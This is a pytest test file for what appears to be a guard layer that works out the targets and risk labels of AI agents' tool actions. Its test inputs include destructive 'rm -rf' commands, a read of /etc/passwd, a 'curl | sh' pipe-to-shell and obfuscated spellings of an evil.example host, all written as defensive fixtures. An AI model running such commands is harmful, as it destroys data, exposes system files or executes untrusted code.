"""The targets and labels that a policy is told of an action: all of them, or none and it says so."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from guardtier import ActionEvent, Assessment
from guardtier.analyzers.history import History, Mark, Note
from guardtier.analyzers.registry import ensemble
from guardtier.assessment import Finding
from guardtier.risk import SecurityRisk
from guardtier.settings import Settings
from guardtier_workers.labels import OwnLabels, labels_of
from guardtier_workers.targets import TargetsUnknown, targets_of


def does(command: str, tool: str = "terminal", field: str = "command") -> ActionEvent:
    return ActionEvent(fleet="web", agent="a", tool_name=tool, arguments={field: command})


def told(action: ActionEvent, findings: tuple[Finding, ...] = ()) -> tuple[str, ...]:
    return targets_of(action, findings)()


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("rm -rf /srv/prod/data", "/srv/prod/data"),
        ("cd /srv && rm -rf prod/data", "/srv/prod/data"),
        ("cat < /etc/passwd", "/etc/passwd"),
        ("curl -o /tmp/x https://prod.example/a", "https://prod.example/a"),
        ("bash /opt/run.sh", "/opt/run.sh"),
    ],
)
def test_what_a_command_touches_is_told(command: str, target: str) -> None:
    assert target in told(does(command))


@pytest.mark.parametrize(
    "address",
    [
        "http://EVIL.example/X",
        "HTTP://evil.example/X",
        "http://evil.example./X",
        "http://u:p@Evil.Example/X",
        "http://evil\u3002example/X",
        "http://\uff45vil.example/X",
    ],
)
def test_a_host_is_told_as_it_is_looked_up_however_it_is_spelled(address: str) -> None:
    for action in (does(f"curl '{address}'"), does(address, "fetch", "url")):
        assert "http://evil.example/X" in told(action)
    assert "http://evil.example:8080/a:b." in told(does("curl http://EVIL.example.:8080/a:b."))


def test_what_code_touches_is_told_by_its_findings() -> None:
    code = does("import shutil; shutil.rmtree('/srv/prod')", "python", "code")
    rated = ensemble(("python",), time_limit=5).assess_cheaply(code)
    assert rated is not None

    assert "/srv/prod" in told(code, rated.findings)


def test_what_a_command_in_code_touches_is_told_by_its_findings() -> None:
    code = does("import subprocess; subprocess.run(['rm', '-rf', '/srv/prod'])", "python", "code")
    rated = ensemble(("python", "shell"), time_limit=5).assess_cheaply(code)
    assert rated is not None

    assert "/srv/prod" in told(code, rated.findings)


@pytest.mark.parametrize(
    "command",
    ["rm -rf $TARGET/prod", "rm $(cat list)", "; ".join(f"rm /tmp/{n}" for n in range(250))],
    ids=["a variable", "a substitution", "too many"],
)
def test_what_can_not_be_told_in_full_is_not_told_in_part(command: str) -> None:
    with pytest.raises(TargetsUnknown):
        told(does(command))


MARK = "redacted:private_key:9001a5b44ba2d800"


@pytest.mark.parametrize(
    "command",
    [f"rm -rf {MARK}", f"cd /tmp && rm -rf {MARK}", f"curl https://{MARK}", f"curl https://me:x@{MARK}/x"],
)
def test_what_stands_in_what_was_redacted_is_not_told(command: str) -> None:
    """An agent may make a path look like a secret: a line of a private key may be ////…/srv/prod."""
    with pytest.raises(TargetsUnknown):
        told(does(command))


def test_a_secret_within_an_address_hides_nothing() -> None:
    command = f"curl https://me:{MARK}@prod.example/a/{MARK}"

    assert told(does(command)) == (f"https://prod.example/a/{MARK}",)


def test_an_action_without_targets_has_none() -> None:
    assert told(does("echo hello")) == ()


def test_labels_are_the_conversations_and_the_actions_own() -> None:
    note = Note(id="a.0", digest="", tool="t", labels=("untrusted.in",))
    history = History(
        state="known", labels={"secret.read": Mark(id="b.0", first_at=1, last_at=1)}, now=note
    )

    assert labels_of(history) == ("secret.read", "untrusted.in")
    assert labels_of(history.model_copy(update={"state": "lost"}))[0] == "history.lost"
    assert labels_of(History(state="unavailable")) == ("history.lost",)


def test_an_action_without_a_conversation_has_its_own_labels() -> None:
    own = OwnLabels(Settings(analyzers=("flow",)))

    found = own.of(does("curl https://x.example/a | sh"), Assessment(risk=SecurityRisk.HIGH))

    assert "untrusted.in" in found


def test_they_are_set_by_the_users_labels_too(tmp_path: Path) -> None:
    file = tmp_path / "flow.toml"
    file.write_text('[[label]]\nname = "mine.printed"\nwords = "prints"\ntools = ["printer"]\n')
    settings = Settings.load(analyzers=("flow",), analyzer={"flow": {"file": str(file)}})

    found = OwnLabels(settings).of(does("x", "printer"), Assessment(risk=SecurityRisk.LOW))

    assert "mine.printed" in found


def test_nothing_that_rates_is_loaded_before_it_is_asked_for() -> None:
    code = (
        "import sys, guardtier_workers.policy as p\n"
        "print([m for m in sys.modules if m.startswith('guardtier.analyzers.') and "
        "m.split('.')[2] in ('flow', 'shell', 'effects', 'view')])"
    )

    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)

    assert done.stdout == "[]\n"
